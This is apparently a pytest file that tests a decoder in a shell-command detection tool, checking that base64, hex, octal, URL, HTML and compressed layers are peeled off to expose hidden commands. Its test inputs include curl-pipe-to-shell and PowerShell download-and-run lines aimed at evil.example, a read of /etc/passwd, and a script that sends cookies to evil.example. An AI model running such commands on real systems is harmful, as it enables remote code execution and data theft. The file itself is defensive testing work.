"""Generic layers: base64 (plain, url-safe, UTF-16LE), hex, octal, URL and HTML escapes, compression.

Every encoded input is built here by code from the plain text it hides, never typed in as a blob.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import time
import uuid
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shellwatch.decode import encodings
from shellwatch.decode.engine import decode
from shellwatch.decode.model import Budget, Limits

STEPS = encodings.STEPS
COMMAND = "curl -s http://evil.example/stage2.sh | sh -s -- --quiet"
PS_COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(data) + packer.flush()


def peel(text: str, limits: Limits | None = None) -> tuple[list[str], str]:
    result = decode(text, STEPS, limits or Limits())
    return [layer.technique for layer in result.layers], result.text


def test_base64_of_utf8_text_is_replaced_in_place() -> None:
    text = f"echo {b64(COMMAND.encode())} | base64 -d | bash"
    assert peel(text) == (["base64"], f"echo {COMMAND} | base64 -d | bash")


def test_base64url_is_decoded() -> None:
    # Characters chosen so the encoding holds both '-' and '_', which plain base64 never has.
    hidden = "curl http://evil.example/a?b=c>>d | sh ~~~"
    encoded = base64.urlsafe_b64encode(hidden.encode()).decode()
    assert "-" in encoded and "_" in encoded
    assert peel(f"run {encoded}") == (["base64url"], f"run {hidden}")


def test_base64_of_utf16le_text_is_decoded() -> None:
    encoded = b64(PS_COMMAND.encode("utf-16-le"))
    step = encodings.decode_base64(f"x {encoded} y", Budget())
    assert step is not None
    assert step.technique == "base64-utf16le"
    assert step.text == f"x {PS_COMMAND} y"


def test_short_base64_is_decoded_only_where_the_command_decodes_it() -> None:
    short = b64(b"id;ls")
    assert peel(f"echo {short} | base64 -d | sh")[1] == "echo id;ls | base64 -d | sh"
    assert peel(f"ls {short}") == ([], f"ls {short}")


@pytest.mark.parametrize(
    ("compress", "technique"),
    [(gzip.compress, "gzip"), (zlib.compress, "zlib"), (raw_deflate, "deflate")],
)
def test_compressed_streams_in_base64_are_inflated(compress: object, technique: str) -> None:
    assert callable(compress)
    text = f"echo {b64(compress(PS_COMMAND.encode()))}"
    assert peel(text) == ([technique], f"echo {PS_COMMAND}")


def test_nested_layers_are_peeled_one_by_one() -> None:
    inner = b64(gzip.compress(COMMAND.encode()))
    outer = b64(f"echo {inner} | base64 -d | gunzip | sh".encode())
    techniques, text = peel(f"bash -c {outer}")
    assert techniques == ["base64", "gzip"]
    assert text == f"bash -c echo {COMMAND} | base64 -d | gunzip | sh"


def test_hex_escape_runs_are_decoded() -> None:
    hidden = "import os;os.system('id')"
    escaped = "".join(f"\\x{byte:02x}" for byte in hidden.encode())
    assert peel(f"python -c \"exec('{escaped}')\"") == (["hex"], f"python -c \"exec('{hidden}')\"")


def test_bare_hex_that_spells_text_is_decoded() -> None:
    assert peel(f"echo {COMMAND.encode().hex()} | xxd -r -p | sh") == (
        ["hex"],
        f"echo {COMMAND} | xxd -r -p | sh",
    )
    assert peel(f"run 0x{COMMAND.encode().hex().upper()}") == (["hex"], f"run {COMMAND}")


def test_hex_of_a_compressed_stream_is_inflated() -> None:
    techniques, text = peel(f"echo {gzip.compress(COMMAND.encode()).hex()}")
    assert techniques == ["gzip"]
    assert text == f"echo {COMMAND}"


def test_octal_escapes_are_decoded() -> None:
    escaped = "".join(f"\\{byte:03o}" for byte in b"cat /etc/passwd")
    assert peel(f"printf '{escaped}' | sh") == (["octal"], "printf 'cat /etc/passwd' | sh")


def test_url_escapes_are_decoded() -> None:
    escaped = "".join(f"%{byte:02x}" for byte in b"calc.exe")
    assert peel(f"cmd /c {escaped}") == (["url-escape"], "cmd /c calc.exe")


def test_url_escapes_a_benign_url_needs_are_left_alone() -> None:
    text = "curl 'https://example.com/search?q=a%20b%26c'"
    assert encodings.decode_url(text, Budget()) is None


def test_html_entities_are_decoded() -> None:
    numeric = "".join(f"&#{ord(char)};" for char in "calc")
    hexadecimal = "".join(f"&#x{ord(char):x};" for char in "cmd")
    text = f"start {numeric} &amp; {hexadecimal} &lt;x&gt;"
    assert peel(text) == (["html-entities"], "start calc & cmd <x>")


def _jwt() -> str:
    def part(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).decode().rstrip("=")

    header = part(b'{"alg":"HS256","typ":"JWT"}')
    claims = part(b'{"sub":"1234567890","name":"John Doe","admin":true,"iat":1516239022}')
    return f"{header}.{claims}.{part(hashlib.sha256(b'signature').digest())}"


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(64)) + b"IEND\xaeB`\x82"


@pytest.mark.parametrize(
    "text",
    [
        f"curl -H 'Authorization: Bearer {_jwt()}' https://api.example.com/v1/items",
        f'<img src="data:image/png;base64,{b64(_png())}">',
        f"echo {hashlib.sha256(b'release.tar.gz').hexdigest()}  release.tar.gz | sha256sum -c",
        f"md5sum -c <<< '{hashlib.md5(b'x').hexdigest()}  file'",
        f"az vm show --ids {uuid.uuid4()} --subscription {str(uuid.uuid4()).upper()}",
        f"git checkout {hashlib.sha1(b'commit').hexdigest()} && git show {hashlib.sha1(b'c').hexdigest()[:7]}"
        f" && git log -1 {hashlib.sha1(b'd').hexdigest()[:12]}",
        f"certutil -hashfile x SHA512 {hashlib.sha512(b'x').hexdigest()}",
        f"openssl rand -base64 32 > key; echo {b64(hashlib.sha256(b'k').digest())}",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -ExecutionPolicy Bypass",
        "/usr/lib/systemd/systemd-journald --AbCdEfGhIjKlMnOpQrStUvWxYz",
    ],
)
def test_benign_lookalikes_are_left_alone(text: str) -> None:
    for step in STEPS:
        assert step(text, Budget()) is None, step


def test_decompression_bomb_stops_at_the_output_limit_quickly() -> None:
    bomb = b64(gzip.compress(bytes(50 * 1024 * 1024)))
    limits = Limits(max_output=64 * 1024, max_seconds=2.0)
    started = time.monotonic()
    result = decode(f"echo {bomb} | base64 -d | gunzip", STEPS, limits)
    assert time.monotonic() - started < 1.0
    assert result.stopped is not None and "output limit" in result.stopped
    assert all(len(layer.after) <= limits.max_output for layer in result.layers)


def test_zlib_bomb_in_hex_stops_too() -> None:
    bomb = zlib.compress(bytes(20 * 1024 * 1024)).hex()
    result = decode(f"echo {bomb}", STEPS, Limits(max_output=32 * 1024))
    assert result.stopped is not None and "output limit" in result.stopped


def test_inflate_never_returns_more_than_room() -> None:
    data = gzip.compress(b"A" * 10_000)
    found = encodings.inflate(data, Budget(), 20_000)
    assert found == ("gzip", b"A" * 10_000)


def test_foreign_text_is_rejected() -> None:
    for text in ["", "ls -la /tmp", "Get-ChildItem -Recurse | Where-Object Length -gt 1MB"]:
        for step in STEPS:
            assert step(text, Budget()) is None


SMALL = Limits(max_depth=4, max_output=4096, max_seconds=0.2, max_ticks=20_000)
ENCODED_ALPHABET = st.sampled_from(list("ABCDEFabcdef0123456789+/=-_%&#;\\xX \nHhsI4"))


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=400), st.text(alphabet=ENCODED_ALPHABET, max_size=400)))
def test_random_text_never_raises_and_ends_within_small_limits(text: str) -> None:
    started = time.monotonic()
    result = decode(text, STEPS, SMALL)
    assert time.monotonic() - started < 2.0
    assert len(result.layers) <= SMALL.max_depth
    assert all(len(layer.after) <= SMALL.max_output for layer in result.layers)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_base64_of_random_bytes_never_raises(data: bytes) -> None:
    result = decode(f"echo {b64(data)} | base64 -d", STEPS, SMALL)
    assert result.original.startswith("echo ")


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=16, max_size=120))
def test_base64_of_printable_text_comes_back(hidden: str) -> None:
    result = decode(f"echo {b64(hidden.encode())} | base64 -d", STEPS, Limits(max_depth=1))
    assert [layer.after for layer in result.layers] == [f"echo {hidden} | base64 -d"]


def test_binary_uploaded_with_curl_stays_as_it_is() -> None:
    archive = gzip.compress(bytes(range(256)) * 4, mtime=0)[:-8]  # a cut stream: no text comes out
    for text in (
        f"echo {b64(_png())} | curl -s -X POST -H 'Content-Type: image/png' -d @- https://api.example.com/up",
        f"printf '%s' {b64(archive)} | curl --data-binary @- https://files.example.com/upload",
    ):
        for step in STEPS:
            assert step(text, Budget()) is None, (step, text)


def test_xml_and_json_documents_in_base64_are_data_not_layers() -> None:
    ping = '<?xml version="1.0" encoding="UTF-8"?><request protocol="3.0"><app appid="{8A69}"/></request>'
    config = '{"auths": {"registry.example.com": {"auth": "dXNlcjpwYXNz"}}}'
    for document in (ping, config):
        text = f"MicrosoftEdgeUpdate.exe /ping {base64.urlsafe_b64encode(document.encode()).decode()}"
        assert encodings.decode_base64(text, Budget()) is None


def test_long_words_with_percent_signs_are_scanned_once() -> None:
    text = "|".join(["%{$_}"] * 20_000) + " " + "a%" * 50_000
    started = time.monotonic()
    assert encodings.decode_url(text, Budget(Limits(max_ticks=10**7))) is None
    assert time.monotonic() - started < 1.0


def test_a_data_uri_of_text_is_still_decoded() -> None:
    hidden = "<script>fetch('http://evil.example/c?'+document.cookie)</script>"
    text = f"mshta data:text/html;base64,{b64(hidden.encode())}"
    assert peel(text) == (["base64"], f"mshta data:text/html;base64,{hidden}")
